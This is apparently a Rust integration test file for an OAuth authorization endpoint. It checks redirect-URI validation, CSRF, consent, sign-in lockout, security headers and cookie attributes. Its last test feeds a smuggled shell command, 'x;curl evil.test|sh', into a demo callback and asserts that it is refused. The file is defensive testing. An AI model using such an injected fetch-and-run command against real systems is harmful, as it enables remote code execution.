//! The authorization endpoint and its pages: untrusted clients, errors sent back to the
//! client, scopes and consent, CSRF, the sign-in throttle, page headers.

use souk::accounts::ClientSpec;

use super::{EMAIL, PASSWORD, TOKEN, authorize_query};
use crate::both_backends;
use crate::helpers::{
    LoginPage, TestApp, encode, expect_json, expect_oauth_error, hidden_field, location,
    query_value, session_cookie,
};

both_backends!(
    an_address_stored_under_an_older_rule_still_signs_in,
    authorize_refuses_untrusted_clients_and_redirects_on_a_page,
    authorize_redirects_errors_with_state_and_extras,
    authorize_defaults_scopes_and_honours_denial,
    consent_needs_csrf_and_session,
    a_visit_stores_no_session_until_the_sign_in,
    sign_in_is_throttled_with_one_message,
    guesses_at_the_same_moment_meet_the_lockout,
    pages_carry_no_store_and_anti_framing,
    the_session_cookie_keeps_to_the_pages,
    control_characters_are_unknown_not_errors,
    the_demo_callback_shows_only_a_code,
);

/// Cases 1, 2, 4, 8: no redirect to an untrusted address.
async fn authorize_refuses_untrusted_clients_and_redirects_on_a_page(app: TestApp) {
    let tenant = app
        .register_client(ClientSpec {
            name: "Tenant app".into(),
            redirect_uris: vec!["https://tenant.test/cb?tenant=a".into()],
            ..ClientSpec::default()
        })
        .await;
    let id = &app.app_client.id;
    let cases = [
        // 1: unknown client
        "response_type=code&client_id=nobody&redirect_uri=https%3A%2F%2Fclient.test%2Fcb"
            .to_owned(),
        // 2: unregistered and near misses
        format!("response_type=code&client_id={id}&redirect_uri=https%3A%2F%2Fevil.test%2Fcb"),
        format!("response_type=code&client_id={id}&redirect_uri=https%3A%2F%2Fclient.test%2Fcb%2F"),
        format!("response_type=code&client_id={id}&redirect_uri=https%3A%2F%2Fclient.test%2FCb"),
        format!(
            "response_type=code&client_id={id}&redirect_uri=https%3A%2F%2Fclient.test%3A444%2Fcb"
        ),
        format!("response_type=code&client_id={id}&redirect_uri=http%3A%2F%2Fclient.test%2Fcb"),
        format!(
            "response_type=code&client_id={id}&redirect_uri=https%3A%2F%2Fclient.test%2Fcb%23frag"
        ),
        format!(
            "response_type=code&client_id={}&redirect_uri={}",
            tenant.id,
            encode("https://tenant.test/cb?tenant=b")
        ),
        // 4: a code parameter inside the redirect_uri, also with its name percent-encoded
        format!(
            "response_type=code&client_id={id}&redirect_uri={}",
            encode("https://client.test/cb?code=x")
        ),
        format!(
            "response_type=code&client_id={id}&redirect_uri={}",
            encode("https://client.test/cb?c%6Fde=x")
        ),
        // and after a `;`, which some query parsers take as a separator
        format!(
            "response_type=code&client_id={id}&redirect_uri={}",
            encode("https://client.test/cb?x=1;code=x")
        ),
        // 2: a registered parameter again under an encoded name, with another value
        format!(
            "response_type=code&client_id={}&redirect_uri={}",
            tenant.id,
            encode("https://tenant.test/cb?tenant=a&t%65nant=b")
        ),
        // 8: repeated client_id or redirect_uri
        format!(
            "response_type=code&client_id={id}&client_id={id}&redirect_uri=https%3A%2F%2Fclient.test%2Fcb"
        ),
        format!(
            "response_type=code&client_id={id}&redirect_uri=https%3A%2F%2Fclient.test%2Fcb&redirect_uri=https%3A%2F%2Fclient.test%2Fcb"
        ),
        // no redirect_uri at all
        format!("response_type=code&client_id={id}"),
    ];
    for query in cases {
        let response = app.authorize_page(&query).await;
        assert_eq!(response.status(), 400, "{query}");
        assert!(response.headers().get("location").is_none(), "{query}");
        assert!(
            response.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("text/html")
        );
        // 8: a repeated client_id or redirect_uri is named `invalid_request` on the page.
        let page = response.text().await.unwrap();
        let repeated =
            query.matches("client_id=").count() > 1 || query.matches("redirect_uri=").count() > 1;
        assert_eq!(page.contains("invalid_request"), repeated, "{query}");
    }
    // 8: an unknown parameter is ignored.
    let response = app
        .authorize_page(&authorize_query(&app.app_client, "&colour=blue"))
        .await;
    assert_eq!(response.status(), 200);
}

/// Cases 3, 5, 6, 7: errors go back to the client with `state` and the extra parameters.
async fn authorize_redirects_errors_with_state_and_extras(app: TestApp) {
    let id = &app.app_client.id;
    let with_extras = encode("https://client.test/cb?lang=nl&ref=a%26b");
    // 512 characters, the last of them special.
    let state = format!("{}{}", "x".repeat(497), "ä &=+/?#%20\"'<>");
    assert_eq!(state.chars().count(), 512);
    let encoded_state = encode(&state);
    let cases = [
        (
            format!("client_id={id}&redirect_uri={with_extras}&state={encoded_state}"),
            "invalid_request",
        ),
        (
            format!(
                "response_type=token&client_id={id}&redirect_uri={with_extras}&state={encoded_state}"
            ),
            "unsupported_response_type",
        ),
        (
            format!(
                "response_type=code&scope=read+admin&client_id={id}&redirect_uri={with_extras}&state={encoded_state}"
            ),
            "invalid_scope",
        ),
        (
            format!("response_type=code&state=a&state=b&client_id={id}&redirect_uri={with_extras}"),
            "invalid_request",
        ),
        (
            format!(
                "response_type=code&code_challenge_method=plain&code_challenge={}&client_id={id}&redirect_uri={with_extras}&state={encoded_state}",
                "a".repeat(43)
            ),
            "invalid_request",
        ),
    ];
    for (query, error) in cases {
        let response = app.authorize_page(&query).await;
        assert_eq!(response.status(), 302, "{query}");
        let to = location(&response);
        assert!(
            to.starts_with("https://client.test/cb?lang=nl&ref=a%26b&"),
            "{to}"
        );
        assert_eq!(query_value(&to, "error").as_deref(), Some(error), "{to}");
        if query.contains("state=a&state=b") {
            continue;
        }
        assert_eq!(
            query_value(&to, "state").as_deref(),
            Some(state.as_str()),
            "state byte for byte"
        );
    }
    // 3 and 7 on success: the extras and the state come back with the code.
    app.create_user(EMAIL, PASSWORD).await;
    let landed = app
        .authorize(
            &format!(
                "response_type=code&client_id={id}&redirect_uri={with_extras}&state={encoded_state}"
            ),
            EMAIL,
            PASSWORD,
        )
        .await;
    assert!(
        landed.starts_with("https://client.test/cb?lang=nl&ref=a%26b&code="),
        "{landed}"
    );
    assert_eq!(
        query_value(&landed, "state").as_deref(),
        Some(state.as_str())
    );
    assert_eq!(query_value(&landed, "ref").as_deref(), Some("a&b"));
}

/// Cases 6 and 9, and the consent memory.
async fn authorize_defaults_scopes_and_honours_denial(app: TestApp) {
    app.create_user(EMAIL, PASSWORD).await;
    let narrow = app
        .register_client(ClientSpec {
            name: "Narrow".into(),
            redirect_uris: vec!["https://narrow.test/cb".into()],
            scopes: Some("read write purchase".into()),
            default_scopes: Some("read".into()),
            ..ClientSpec::default()
        })
        .await;
    let landed = app
        .authorize(&authorize_query(&narrow, "&state=s1"), EMAIL, PASSWORD)
        .await;
    let code = query_value(&landed, "code").unwrap();
    let body = expect_json(
        app.token_request(
            &narrow,
            &[
                ("grant_type", "authorization_code"),
                ("code", &code),
                ("redirect_uri", &narrow.redirect_uri),
            ],
        )
        .await,
        200,
    )
    .await;
    assert_eq!(
        body["scope"], "read",
        "no scope asked: the client's defaults"
    );
    // A second authorization of the same scopes skips the consent page.
    let query = authorize_query(&narrow, "&state=s2");
    let response = app.sign_in(&query, EMAIL, PASSWORD).await;
    assert_eq!(response.status(), 302, "consent remembered");
    assert!(query_value(&location(&response), "code").is_some());
    // 9: the user denies.
    let wide = authorize_query(&narrow, "&scope=read+write&state=deny%20me");
    let consent = app.sign_in(&wide, EMAIL, PASSWORD).await;
    assert_eq!(consent.status(), 200, "wider scopes ask for consent again");
    let cookie = session_cookie(&consent);
    let page = consent.text().await.unwrap();
    assert!(page.contains("Narrow"), "the consent page names the client");
    let csrf = hidden_field(&page, "csrf_token");
    let denied = app
        .submit(
            &wide,
            Some(&cookie),
            &[("decision", "deny"), ("csrf_token", &csrf)],
        )
        .await;
    let to = location(&denied);
    assert_eq!(query_value(&to, "error").as_deref(), Some("access_denied"));
    assert_eq!(query_value(&to, "state").as_deref(), Some("deny me"));
    assert!(query_value(&to, "code").is_none());
    // A client registered with client scopes only has no user scope to default to: a user
    // cannot grant it nothing, so the request fails rather than yield an empty grant.
    let clerk = app
        .register_client(ClientSpec {
            name: "Clerk".into(),
            redirect_uris: vec!["https://clerk.test/cb".into()],
            scopes: Some("create_account confirm_upcall".into()),
            ..ClientSpec::default()
        })
        .await;
    let response = app
        .authorize_page(&authorize_query(&clerk, "&state=nothing"))
        .await;
    assert_eq!(response.status(), 302);
    let to = location(&response);
    assert!(to.starts_with("https://clerk.test/cb?"), "{to}");
    assert_eq!(query_value(&to, "error").as_deref(), Some("invalid_scope"));
    assert_eq!(query_value(&to, "state").as_deref(), Some("nothing"));
}

/// Case 10, for every form: the sign-in form and the consent form.
async fn consent_needs_csrf_and_session(app: TestApp) {
    app.create_user(EMAIL, PASSWORD).await;
    let query = authorize_query(&app.app_client, "");
    let LoginPage { cookie, csrf } = app.login_page(&query).await;
    for csrf in [None, Some("forged")] {
        let mut form = vec![("username", EMAIL), ("password", PASSWORD)];
        if let Some(csrf) = csrf {
            form.push(("csrf_token", csrf));
        }
        let response = app.submit(&query, Some(&cookie), &form).await;
        assert_eq!(response.status(), 403, "sign-in with {csrf:?}");
        assert!(response.headers().get("set-cookie").is_none(), "{csrf:?}");
    }
    // Another visitor's token, or this one's with no cookie, is no token of this form.
    let other = app.login_page(&query).await;
    for cookie in [Some(cookie.as_str()), None] {
        let form = [
            ("username", EMAIL),
            ("password", PASSWORD),
            ("csrf_token", other.csrf.as_str()),
        ];
        let response = app.submit(&query, cookie, &form).await;
        assert_eq!(
            response.status(),
            403,
            "another visitor's token, {cookie:?}"
        );
    }
    let form = [
        ("username", EMAIL),
        ("password", PASSWORD),
        ("csrf_token", &csrf),
    ];
    let consent = app.submit(&query, Some(&cookie), &form).await;
    let signed_in = session_cookie(&consent);
    let csrf = hidden_field(&consent.text().await.unwrap(), "csrf_token");
    let attempts = [
        (Some(signed_in.as_str()), None),
        (Some(signed_in.as_str()), Some("forged")),
        (None, Some(csrf.as_str())),
        // The session from before the sign-in is no longer the signed-in one.
        (Some(cookie.as_str()), Some(csrf.as_str())),
    ];
    for (cookie, csrf) in attempts {
        let mut form = vec![("decision", "allow")];
        if let Some(csrf) = csrf {
            form.push(("csrf_token", csrf));
        }
        let response = app.submit(&query, cookie, &form).await;
        assert_eq!(response.status(), 403, "{cookie:?} {csrf:?}");
        assert!(response.headers().get("location").is_none());
    }
}

/// Anyone may open the sign-in page as often as they like: a visit stores nothing (its
/// CSRF token is bound to its cookie), only a sign-in stores a session.
async fn a_visit_stores_no_session_until_the_sign_in(app: TestApp) {
    app.create_user(EMAIL, PASSWORD).await;
    let query = authorize_query(&app.app_client, "");
    for _ in 0..3 {
        app.login_page(&query).await;
    }
    let login = app.login_page(&query).await;
    // The visitor's cookie sent back is the same visitor: the same form token, no new cookie.
    let again = app.submit(&query, Some(&login.cookie), &[]).await;
    assert_eq!(again.status(), 403, "a form without its token");
    let page = app
        .request(
            reqwest::Method::GET,
            &format!("/accounts/oauth/authorize?{query}"),
        )
        .header("cookie", &login.cookie)
        .send()
        .await;
    assert!(page.headers().get("set-cookie").is_none());
    assert_eq!(
        hidden_field(&page.text().await.unwrap(), "csrf_token"),
        login.csrf
    );
    assert_eq!(app.count_rows("browser_sessions").await, 0);
    let form = [
        ("username", EMAIL),
        ("password", PASSWORD),
        ("csrf_token", login.csrf.as_str()),
    ];
    let consent = app.submit(&query, Some(&login.cookie), &form).await;
    assert_eq!(consent.status(), 200, "the consent page");
    assert_ne!(
        session_cookie(&consent),
        login.cookie,
        "a new session at the sign-in"
    );
    assert_eq!(app.count_rows("browser_sessions").await, 1);
}

/// Case 11.
async fn sign_in_is_throttled_with_one_message(app: TestApp) {
    app.create_user(EMAIL, PASSWORD).await;
    let query = authorize_query(&app.app_client, "");
    let attempt =
        |email: &'static str, password: &'static str| app.sign_in(&query, email, password);
    let unknown = attempt("nobody@souk.test", "whatever-1").await;
    assert_eq!(unknown.status(), 200);
    let unknown_page = unknown.text().await.unwrap();
    let wrong = attempt(EMAIL, "wrong-password").await;
    let wrong_page = wrong.text().await.unwrap();
    let message = |page: &str| {
        page.split("role=\"alert\">")
            .nth(1)
            .unwrap()
            .split('<')
            .next()
            .unwrap()
            .to_owned()
    };
    assert_eq!(
        message(&unknown_page),
        message(&wrong_page),
        "the same message"
    );
    for _ in 0..4 {
        attempt(EMAIL, "wrong-password").await;
    }
    let locked = attempt(EMAIL, PASSWORD).await;
    assert_eq!(locked.status(), 429, "locked even with the right password");
    assert!(locked.headers().get("retry-after").is_some());
    // Case 12 on this page too.
    assert_eq!(locked.headers()["cache-control"], "no-store");
    assert_eq!(locked.headers()["x-frame-options"], "DENY");
    // The lock lifts after the window.
    app.clock.advance(16 * 60);
    let later = attempt(EMAIL, PASSWORD).await;
    assert_eq!(later.status(), 200, "consent page after the window");
    // Spaces before the address name the same account (the sign-in trims them): however
    // many, they open no fresh count, also where they push the name past the longest
    // address (320 characters).
    let padded = |spaces: usize| format!("{}{EMAIL}", " ".repeat(spaces));
    for spaces in 320..325 {
        let wrong = app.sign_in(&query, &padded(spaces), "wrong-password").await;
        assert_eq!(wrong.status(), 200, "{spaces}");
    }
    let locked = app.sign_in(&query, &padded(325), PASSWORD).await;
    assert_eq!(locked.status(), 429, "padded, with the right password");
    assert_eq!(attempt(EMAIL, PASSWORD).await.status(), 429);
    app.clock.advance(16 * 60);
    // A name of kilobytes of letters that do not compress (no address is so long): a
    // failure like any other, counted under its beginning.
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    let long: String = (0..4_000)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            char::from(b'a' + (seed % 26) as u8)
        })
        .collect();
    let refused = app.sign_in(&query, &long, "whatever-1").await;
    assert_eq!(refused.status(), 200);
    assert_eq!(
        message(&refused.text().await.unwrap()),
        message(&wrong_page)
    );
}

/// Twelve guesses sent at once: no more passwords are checked than the lockout allows (each
/// counted before it is checked, so they count each other), the rest are locked out.
async fn guesses_at_the_same_moment_meet_the_lockout(app: TestApp) {
    app.create_user(EMAIL, PASSWORD).await;
    let query = authorize_query(&app.app_client, "");
    let guesses: Vec<String> = (0..12).map(|n| format!("guess-{n}")).collect();
    let racing = guesses.iter().map(|guess| {
        let (app, query) = (&app, &query);
        async move { app.sign_in(query, EMAIL, guess).await.status().as_u16() }
    });
    let statuses = futures_util::future::join_all(racing).await;
    let checked = statuses.iter().filter(|s| **s == 200).count();
    let locked = statuses.iter().filter(|s| **s == 429).count();
    assert_eq!(checked + locked, 12, "{statuses:?}");
    let most = usize::try_from(souk::oauth::session::LOCK_AFTER).unwrap();
    assert!(checked <= most, "{checked} checked: {statuses:?}");
    // The checked guesses stay counted, the locked ones do not: the right password is let
    // in only while the checked ones are fewer than the lockout's number.
    let right = app.sign_in(&query, EMAIL, PASSWORD).await;
    let expected = if checked < most { 200 } else { 429 };
    assert_eq!(right.status(), expected, "{checked} checked");
}

/// Case 12: the sign-in page, the error page and the consent page (the 429 page in case
/// 11's test).
async fn pages_carry_no_store_and_anti_framing(app: TestApp) {
    app.create_user(EMAIL, PASSWORD).await;
    let query = authorize_query(&app.app_client, "");
    let responses = [
        app.authorize_page(&query).await,
        app.authorize_page("client_id=nobody").await,
        app.sign_in(&query, EMAIL, PASSWORD).await,
    ];
    for response in responses {
        let headers = response.headers();
        assert_eq!(headers["cache-control"], "no-store");
        assert_eq!(headers["x-frame-options"], "DENY");
        assert!(
            headers["content-security-policy"]
                .to_str()
                .unwrap()
                .contains("frame-ancestors 'none'")
        );
    }
    let consent = app
        .sign_in(&query, EMAIL, PASSWORD)
        .await
        .text()
        .await
        .unwrap();
    assert!(
        consent.contains("decision"),
        "the third page is the consent page"
    );
}

/// The session cookie: out of scripts' reach, not sent with another site's POST, only to
/// the account pages, and only over HTTPS where the pages are served over HTTPS.
async fn the_session_cookie_keeps_to_the_pages(app: TestApp) {
    async fn session_set_cookie(app: &TestApp) -> Vec<String> {
        let page = app
            .authorize_page(&authorize_query(&app.app_client, ""))
            .await;
        let cookie = page
            .headers()
            .get_all("set-cookie")
            .iter()
            .filter_map(|v| v.to_str().ok())
            .find(|v| v.starts_with("souk_session="))
            .expect("a session cookie")
            .to_owned();
        cookie.split("; ").skip(1).map(str::to_owned).collect()
    }
    let plain = session_set_cookie(&app).await;
    for attribute in ["Path=/accounts", "HttpOnly", "SameSite=Lax"] {
        assert!(
            plain.iter().any(|a| a == attribute),
            "{attribute}: {plain:?}"
        );
    }
    assert!(!plain.iter().any(|a| a == "Secure"), "over http: {plain:?}");
    let https = TestApp::start_with(
        app.backend,
        module_path!(),
        &[("SOUK_AUTH_URL", "https://accounts.souk.test")],
    )
    .await;
    let secure = session_set_cookie(&https).await;
    assert!(
        secure.iter().any(|a| a == "Secure"),
        "over https: {secure:?}"
    );
}

/// PostgreSQL cannot take a NUL in a query: a client id or a sign-in address holding one is
/// simply unknown (never a 500), on both backends.
async fn control_characters_are_unknown_not_errors(app: TestApp) {
    app.create_user(EMAIL, PASSWORD).await;
    let page = app
        .authorize_page(&format!(
            "response_type=code&client_id={}&redirect_uri={}",
            encode("a\0b"),
            encode(&app.app_client.redirect_uri)
        ))
        .await;
    assert_eq!(page.status(), 400);
    assert!(page.headers().get("location").is_none());
    let response = app
        .post(TOKEN)
        .form(&[
            ("grant_type", "client_credentials"),
            ("client_id", "a\0b"),
            ("client_secret", "x"),
        ])
        .send()
        .await;
    expect_oauth_error(response, 401, "invalid_client").await;
    let query = authorize_query(&app.app_client, "");
    let signed_in = app.sign_in(&query, "jan\0@souk.test", PASSWORD).await;
    assert_eq!(signed_in.status(), 200);
    assert!(
        signed_in
            .text()
            .await
            .unwrap()
            .contains("Onjuist e-mailadres of wachtwoord.")
    );
}

/// An address that an earlier release took and today's rule for new addresses refuses
/// (`oud,adres@...`, which no mail can reach) still names its account at sign-in.
async fn an_address_stored_under_an_older_rule_still_signs_in(app: TestApp) {
    let id = app.create_user(EMAIL, PASSWORD).await;
    app.execute(
        "UPDATE users SET email = 'oud,adres@souk.test' WHERE user_id = $1",
        souk::params![id].to_vec(),
    )
    .await;
    let (token, _) = app
        .user_token(&app.app_client, "Oud,Adres@souk.test", PASSWORD, None)
        .await;
    let me = app.get_with("/v1/me", &token).await;
    assert_eq!(
        me.headers()["location"],
        format!("/v1/users/{id}"),
        "signed in as the account"
    );
}

/// Signs in from `client` as the proxy in front of Souk says (`X-Forwarded-For`); the
/// status of the answer.
async fn sign_in_from(app: &TestApp, client: &str, email: &str, password: &str) -> u16 {
    let query = authorize_query(&app.app_client, "");
    let login = app.login_page(&query).await;
    let form = [
        ("username", email),
        ("password", password),
        ("csrf_token", login.csrf.as_str()),
    ];
    app.post(&format!("/accounts/oauth/authorize?{query}"))
        .header("cookie", &login.cookie)
        .header("x-forwarded-for", client)
        .form(&form)
        .send()
        .await
        .status()
        .as_u16()
}

/// Behind a load balancer (`trusted_proxies`), the lockout counts each client apart: five
/// wrong passwords from one client lock that client, not everyone behind the balancer. A
/// client that is not a named proxy cannot pick its address with the header.
async fn the_lockout_counts_clients_behind_a_trusted_proxy(backend: crate::helpers::Backend) {
    for trusted in [true, false] {
        let test = format!("oauth::authorize::proxy::{trusted}::{backend:?}");
        let settings = [("SOUK_TRUSTED_PROXIES", "127.0.0.1, ::1")];
        let settings: &[(&str, &str)] = if trusted { &settings } else { &[] };
        let app = TestApp::start_with(backend, &test, settings).await;
        app.create_user(EMAIL, PASSWORD).await;
        app.create_user("ander@souk.test", "password of ander")
            .await;
        for _ in 0..5 {
            sign_in_from(&app, "198.51.100.1", EMAIL, "wrong-password").await;
        }
        assert_eq!(
            sign_in_from(&app, "198.51.100.1", EMAIL, PASSWORD).await,
            429
        );
        let other = sign_in_from(&app, "198.51.100.2", "ander@souk.test", "password of ander");
        let expected = if trusted { 200 } else { 429 };
        assert_eq!(other.await, expected, "trusted proxy: {trusted}");
    }
}

mod the_lockout_counts_clients_behind_a_trusted_proxy {
    use crate::helpers::Backend;

    #[tokio::test]
    async fn sqlite() {
        super::the_lockout_counts_clients_behind_a_trusted_proxy(Backend::Sqlite).await;
    }

    #[tokio::test]
    #[cfg_attr(souk_no_postgres, ignore = "SOUK_TEST_POSTGRES_URL is not set")]
    async fn postgres() {
        super::the_lockout_counts_clients_behind_a_trusted_proxy(Backend::Postgres).await;
    }
}

/// The sandbox's demo callback shows a code and the curl line that exchanges it; what is
/// not a code of Souk's alphabet never goes into that line (the reader pastes it into a
/// shell: `x;curl evil|sh` would run).
async fn the_demo_callback_shows_only_a_code(app: TestApp) {
    let shown = app
        .request(reqwest::Method::GET, "/accounts/demo-callback?code=Ab-9_z")
        .send()
        .await;
    assert_eq!(shown.status(), 200);
    assert!(shown.text().await.unwrap().contains("-d code=Ab-9_z"));
    let hostile = app
        .request(
            reqwest::Method::GET,
            "/accounts/demo-callback?code=x%3Bcurl%20evil.test%7Csh",
        )
        .send()
        .await;
    assert_eq!(hostile.status(), 400);
    let page = hostile.text().await.unwrap();
    assert!(!page.contains("evil.test"), "{page}");
}
